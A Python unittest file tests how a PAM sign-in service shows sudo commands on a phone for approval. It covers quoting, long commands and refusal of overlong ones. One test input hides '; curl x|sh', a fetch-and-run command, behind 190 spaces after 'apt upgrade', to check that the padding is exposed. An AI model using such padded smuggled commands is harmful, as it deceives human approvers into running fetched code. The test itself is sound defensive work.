"""The command, as the phone is told it, through libpam and against the real service."""

import hashlib
import unittest

from Support.Service.world import AUTHINFO_UNAVAIL, PAM_CALL, SUCCESS, World


def setUpModule():
    global world
    world = World()
    unittest.addModuleCleanup(world.close)
    world.serve()
    world.configure(send_context="yes", send_command="yes")
    world.pam("sudo")
    world.register_phone()


class LongCommands(unittest.TestCase):
    def setUp(self):
        world.configure(long_command=None)
        world.forget_attempts()
        self.phone = world.phone("approve")
        self.addCleanup(self.phone.stop)
        self.phone.wait_for("waiting for sign-ins")

    def test_an_argument_is_in_quotes_and_its_spaces_are_counted(self):
        result = world.play(arguments=["sh", "-c", "apt upgrade" + " " * 190 + "; curl x|sh"])
        self.assertEqual(result["codes"], [SUCCESS])
        self.phone.wait_for("  command .*pam_call.py sh -c 'apt upgrade‹190 spaces›; curl x[|]sh'$")

    def test_a_program_named_like_another_command_is_shown_in_quotes(self):
        # A shell's function named sudo can do this when its user types "sudo apt-get upgrade --quiet bash".
        result = world.play(name="sudo apt-get upgrade --quiet", arguments=["bash"])
        self.assertEqual(result["codes"], [SUCCESS])
        self.phone.wait_for("  command +'sudo apt-get upgrade --quiet' .*pam_call.py bash$")

    def test_both_ends_of_a_long_command_are_shown(self):
        # Longer than the first read.
        words = ["x" * 5000, "the-end"]
        whole = " ".join(["/usr/bin/python3", PAM_CALL, *words])
        result = world.play(arguments=words)
        self.assertEqual(result["codes"], [SUCCESS])
        self.phone.wait_for(f"  command’s beginning {whole[:500]}$")
        self.phone.wait_for(f"  command’s length {len(whole)}$")
        self.phone.wait_for(f"  command’s SHA-256 {hashlib.sha256(whole.encode()).hexdigest()}$")

    def test_a_long_command_is_refused_where_the_configuration_says_so(self):
        world.configure(long_command="refuse")
        result = world.play(arguments=["x" * 1001])
        self.assertEqual(result["codes"], [AUTHINFO_UNAVAIL])
        self.assertEqual(
            result["texts"], ["IAMPASS: not asked: your command is too long for the phone to show. Use your password."])
        self.assertEqual(self.phone.count("sign-in request"), 0)
        # A command that fits is asked for as usual.
        self.assertEqual(world.play(arguments=["x"])["codes"], [SUCCESS])


if __name__ == "__main__":
    unittest.main()
